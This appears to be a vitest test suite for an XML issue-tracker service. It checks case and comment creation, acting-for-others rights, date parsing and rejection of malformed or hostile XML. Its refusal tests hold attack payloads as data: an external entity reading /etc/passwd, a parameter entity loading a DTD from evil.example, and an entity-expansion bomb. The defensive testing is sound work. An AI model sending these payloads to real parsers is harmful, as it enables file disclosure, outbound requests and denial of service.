import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newCase, newKeyOf, traces } from '../../../test/support/cases.ts';
import { listComments } from '../../../test/support/comments.ts';
import { productCase, supportCase } from '../../../test/support/property-table.ts';
import { readCase, send } from '../../../test/support/requests.ts';
import { dialects, startTestApp, type TestApp } from '../../../test/support/test-app.ts';

const SERVICE = '/services/issuetrackerservice.svc';
const XML = { 'content-type': 'application/xml' };
const comment = (inner: string): string => `<IssueCommentDTO>${inner}</IssueCommentDTO>`;
const envelopeOf = (isError: boolean, message: string, value: number | ''): string =>
  `<?xml version="1.0" encoding="utf-8"?><Response><IsError>${isError}</IsError>` +
  `<ResponseMessage>${message}</ResponseMessage><ResponseData>${value}</ResponseData></Response>`;

describe.each(dialects)('on %s', (dialect) => {
  let testApp: TestApp;
  const keys: Record<string, string> = {};
  beforeAll(async () => {
    testApp = await startTestApp(dialect);
    for (const person of ['jonas.weber', 'diego.fuentes', 'omar.haddad'])
      keys[person] = await newKeyOf(testApp, person);
  });
  afterAll(() => testApp.close());

  const post = async (path: string, payload: string | Buffer, headers: Record<string, string> = {}) =>
    send(testApp, { method: 'POST', url: `${SERVICE}/${path}`, payload, headers: { ...XML, ...headers } });
  const as = (person: string) => ({ 'rest-api-key': keys[person] ?? '' });
  const accepted = async (path: string, payload: string | Buffer, headers?: Record<string, string>) => {
    const { status, body, headers: answered } = await post(path, payload, headers);
    expect([status, answered['content-type'], body]).toEqual([
      200,
      'application/xml; charset=utf-8',
      expect.stringMatching(/^<\?xml version="1\.0" encoding="utf-8"\?><Response><IsError>false</u),
    ]);
    return Number(/<ResponseData>(\d+)<\/ResponseData><\/Response>$/u.exec(body)?.[1]);
  };
  const refused = async (
    path: string,
    payload: string | Buffer,
    [status, message]: readonly [number, string],
    headers?: Record<string, string>,
  ) => {
    const before = await traces(testApp);
    const answer = await post(path, payload, headers);
    expect([answer.status, answer.headers['content-type'], answer.body]).toEqual([
      status,
      'application/xml; charset=utf-8',
      envelopeOf(true, message, ''),
    ]);
    expect(await traces(testApp)).toEqual(before);
  };

  it('creates a case from what .NET writes', async () => {
    const xml = `<?xml version="1.0" encoding="utf-16"?>
      <IssueDTO xmlns="http://schemas.datacontract.org/2004/07/Services" xmlns:i="http://www.w3.org/2001/XMLSchema-instance">
        <AssignedToUserID>3</AssignedToUserID>
        <DateCreated>2012-03-01T10:00:00.1234567</DateCreated>
        <IsTaskItem>false</IsTaskItem>
        <IssueDescription>&lt;p&gt;A &amp;amp; B&lt;/p&gt;</IssueDescription>
        <IssuePriorityID>0</IssuePriorityID>
        <IssueTitle>Printer &#8220;5&#x201D; is <![CDATA[out of <b>paper</b>]]></IssueTitle>
        <!-- no milestone -->
        <MilestoneID i:nil="true" />
        <ProjectID>1</ProjectID>
        <ReportedByUserID>5</ReportedByUserID>
        <SpaceID>1</SpaceID>
        <TagsCSV>paper,printer</TagsCSV>
      </IssueDTO>`;
    const caseId = await accepted('case', xml);
    expect(await readCase(testApp, caseId)).toMatchObject({
      IssueTitle: 'Printer “5” is out of paper',
      IssueDescription: '<p>A &amp; B</p>',
      AssignedToUserID: 3,
      ReportedByUserID: 5,
      MilestoneID: 0,
      TagsCSV: 'paper,printer',
      UserID: 1,
      DateCreated: '2012-03-01T10:00:00.123Z',
      DateUpdated: expect.not.stringMatching(/^2012/u),
    });
  });

  it('answers as the other calls do, in XML, whatever the case of the address', async () => {
    const xml =
      '<IssueDTO><IssueTitle>x</IssueTitle><SpaceID>1</SpaceID><ProjectID>1</ProjectID><Colour>x</Colour></IssueDTO>';
    const url = '/Services/IssueTrackerService.svc/Case';
    const { body, headers } = await send(testApp, { method: 'POST', url, payload: xml, headers: XML });
    const [{ id }] = (await testApp.rows('select max(id) as id from cases')) as [{ id: number }];
    expect([body, headers['x-ignored-fields']]).toEqual([envelopeOf(false, 'ToBePublished', id), 'Colour']);
  });

  it('comments on a case', async () => {
    const caseId = await newCase(testApp, supportCase);
    const own = `<CommentText>5 &lt; 6</CommentText><IssueID>${caseId}</IssueID>`;
    const commentId = await accepted('casecomment', comment(`${own}<UserID>1</UserID>`), {
      'content-type': 'text/xml',
    });
    await accepted('casecomment', comment(`${own}<UserID>5</UserID>`), as('jonas.weber'));
    await accepted('casecomment', comment(own), as('diego.fuentes'));
    expect(await listComments(testApp, caseId)).toMatchObject([
      { CommentID: commentId, UserID: 1, CommentText: '5 &lt; 6' },
      { UserID: 5 },
      { UserID: 5 },
    ]);
  });

  it('a creation date counts only from those who may act for others, and not from the future', async () => {
    const dated = (date: string) =>
      `<IssueDTO><IssueTitle>x</IssueTitle><SpaceID>1</SpaceID><ProjectID>1</ProjectID><DateCreated>${date}</DateCreated></IssueDTO>`;
    const createdIn = async (date: string, headers?: Record<string, string>) =>
      String((await readCase(testApp, await accepted('case', dated(date), headers)))['DateCreated']).slice(0, 4);
    const thisYear = String(new Date().getUTCFullYear());
    expect(await createdIn('/Date(1330596000000)/', as('jonas.weber'))).toBe('2012');
    expect(await createdIn('2012-03-01', as('diego.fuentes'))).toBe(thisYear);
    expect(await createdIn('9999-03-01T00:00:00+01:00')).toBe(thisYear);
    expect(await createdIn('0001-01-01T00:00:00')).toBe(thisYear);
    await refused('case', dated('2012-02-30'), [
      400,
      'DateCreated must be a date in ISO 8601 or /Date(…)/, not &quot;2012-02-30&quot;.',
    ]);
  });

  it('acting for somebody else needs a right, and somebody who can see the space', async () => {
    const caseId = await newCase(testApp, supportCase);
    const by = (userId: number, issueId = caseId) =>
      comment(`<CommentText>x</CommentText><IssueID>${issueId}</IssueID><UserID>${userId}</UserID>`);
    const missing = 'You may not comment in the name of another user: the right AdminEntityUpdate is missing.';
    await refused('casecomment', by(3), [403, missing], as('diego.fuentes'));
    const hidden = await newCase(testApp, productCase);
    const problem = 'must be someone who can see the space &quot;Product Development&quot;: user 7 is not.';
    await refused('casecomment', by(7, hidden), [400, `UserID ${problem}`]);
    await refused('casecomment', by(7, hidden), [404, `There is no case ${hidden}.`], as('omar.haddad'));
  });

  it('asks for a key, and names what is wrong as it was sent', async () => {
    await refused('case', '<IssueDTO/>', [401, 'The API key is unknown, expired or revoked.'], { 'rest-api-key': 'x' });
    await refused('case', '<IssueDTO/>', [400, 'IssueTitle is required. SpaceID is required. ProjectID is required.']);
    await refused('casecomment', comment('<IssueID>x</IssueID>'), [
      400,
      'IssueID must be an ID (a positive integer), not &quot;x&quot;.',
    ]);
    await refused('casecomment', comment('<CommentText><b>x</b></CommentText>'), [
      400,
      'CommentText must be a string, not {}.',
    ]);
  });

  describe('refuses', () => {
    const valid = comment('<CommentText>x</CommentText><IssueID>2304</IssueID>');
    const dtd = 'The XML in the request body must not have a document type (DTD).';
    const tooDeep = 'The XML in the request body has elements too deep in each other.';
    const notUtf8 = 'The XML in the request body must be UTF-8.';
    const bomb = `<!DOCTYPE lolz [<!ENTITY a "lol">${'abcdefghij'
      .split('')
      .map((name, index) => `<!ENTITY ${name}${index} "${`&${name};`.repeat(10)}">`)
      .join('')}]>`;
    it.each<[string, string | Buffer, string]>([
      ['a document type', `<!DOCTYPE x>${valid}`, dtd],
      [
        'an external entity',
        `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${valid}`,
        dtd,
      ],
      ['a parameter entity', `<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]>${valid}`, dtd],
      ['a bomb of entities', bomb + valid, dtd],
      [
        'an unknown entity',
        comment('<CommentText>&e;</CommentText>'),
        'The XML in the request body has an &amp; that is not written as &amp;amp;.',
      ],
      [
        'an & alone',
        comment('<CommentText>a & b</CommentText>'),
        'The XML in the request body has an &amp; that is not written as &amp;amp;.',
      ],
      [
        'NUL as a reference',
        comment('<CommentText>&#0;</CommentText>'),
        'The XML in the request body refers to a character that XML does not allow.',
      ],
      [
        'half a character',
        comment('<CommentText>&#xD800;</CommentText>'),
        'The XML in the request body refers to a character that XML does not allow.',
      ],
      [
        'a number beyond Unicode',
        comment('<CommentText>&#x110000;</CommentText>'),
        'The XML in the request body refers to a character that XML does not allow.',
      ],
      [
        'NUL',
        comment('<CommentText>\u0000</CommentText>'),
        'The XML in the request body has characters that XML does not allow.',
      ],
      ['1,000,000 elements in each other', '<a>'.repeat(500_000), tooDeep],
      ['deep elements in a property', comment(`<Other>${'<a>'.repeat(100_000)}</Other>`), tooDeep],
      ['a property 100,000 times', comment('<a/>'.repeat(100_000)), 'CommentText is required. IssueID is required.'],
      [
        '2,000 properties',
        comment(Array.from({ length: 2_000 }, (_, index) => `<a${index}/>`).join('')),
        'The XML in the request body has too many properties.',
      ],
      [
        'text around properties',
        comment('x<IssueID>2304</IssueID>'),
        'The XML in the request body has text beside its properties.',
      ],
      ['two documents', valid + valid, 'The XML in the request body has more than one element.'],
      ['text behind', `${valid}x`, 'The XML in the request body has text outside of its element.'],
      ['another element', '<IssueDTO/>', 'The request body must be the XML element &lt;IssueCommentDTO&gt;.'],
      [
        'a cut-off document',
        valid.slice(0, -1),
        `The XML in the request body is not well-formed at character ${valid.length - 17}.`,
      ],
      ['a document that stays open', '<IssueCommentDTO>', 'The XML in the request body ends too early.'],
      [
        'crossed elements',
        comment('<a><b></a></b>'),
        'The XML in the request body closes &lt;/a&gt;, which is not open.',
      ],
      ['nothing', '', 'The request body is empty: it must be XML.'],
      ['blanks', ' \n', 'The XML in the request body ends too early.'],
      ['JSON', '{"IssueID": 2304}', 'The XML in the request body has text outside of its element.'],
      ['Latin-1', Buffer.from(comment('<CommentText>é</CommentText>'), 'latin1'), notUtf8],
      ['a declaration of Latin-1', `<?xml version="1.0" encoding="ISO-8859-1"?>${valid}`, notUtf8],
      ['UTF-16 the other way round', Buffer.from(`\uFEFF${valid}`, 'utf16le').swap16(), notUtf8],
      [
        'an unclosed comment',
        `<!--${'-'.repeat(200_000)}`,
        'The XML in the request body is not well-formed at character 1.',
      ],
      [
        'attributes without an end',
        `<IssueCommentDTO${' a="b"'.repeat(100_000)}`,
        'The XML in the request body is not well-formed at character 1.',
      ],
      [
        'an attribute with a <',
        '<IssueCommentDTO a="<"/>',
        'The XML in the request body is not well-formed at character 1.',
      ],
    ])('%s', async (_what, payload, message) => {
      const start = performance.now();
      const before = await traces(testApp);
      const answer = await post('casecomment', payload);
      expect(answer.status).toBe(400);
      expect(answer.body).toContain(`<ResponseMessage>${message}`);
      expect(await traces(testApp)).toEqual(before);
      expect(performance.now() - start).toBeLessThan(5_000);
    });

    it('2 MB, other types and compressed bodies', async () => {
      await refused('casecomment', comment(`<CommentText>${'x'.repeat(2_000_000)}</CommentText>`), [
        413,
        'The request body is too large.',
      ]);
      const notXml = 'The request body must be XML, sent with Content-Type: application/xml.';
      await refused('casecomment', '{}', [415, notXml], { 'content-type': 'application/json' });
      await refused('casecomment', valid, [415, notXml], { 'content-type': 'text/plain' });
      const compressed = { 'content-encoding': 'gzip' };
      await refused('casecomment', gzipSync(valid), [415, 'The request body must not be compressed.'], compressed);
    });

    it('other methods', async () => {
      const answer = await send(testApp, { method: 'GET', url: `${SERVICE}/case` });
      expect([answer.status, answer.headers['allow'], answer.headers['content-type']]).toEqual([
        405,
        'POST',
        'application/xml; charset=utf-8',
      ]);
    });
  });

  it('UTF-16 with its mark and UTF-8 with its own are read', async () => {
    const caseId = await newCase(testApp, supportCase);
    const xml = `\uFEFF<?xml version="1.0" encoding="utf-16"?>${comment(`<CommentText>é 😀</CommentText><IssueID>${caseId}</IssueID>`)}`;
    await accepted('casecomment', Buffer.from(xml, 'utf16le'));
    await accepted('casecomment', Buffer.from(xml, 'utf8'));
    expect(await listComments(testApp, caseId)).toMatchObject([{ CommentText: 'é 😀' }, { CommentText: 'é 😀' }]);
  });

  it('what was refused is repeated without becoming markup', async () => {
    const answer = await post('case', '<IssueDTO><SpaceID>&lt;b&gt;&#x1F600;"&amp;</SpaceID></IssueDTO>');
    expect(answer.body).toContain('not &quot;&lt;b&gt;😀\\&quot;&amp;&quot;.');
  });
});
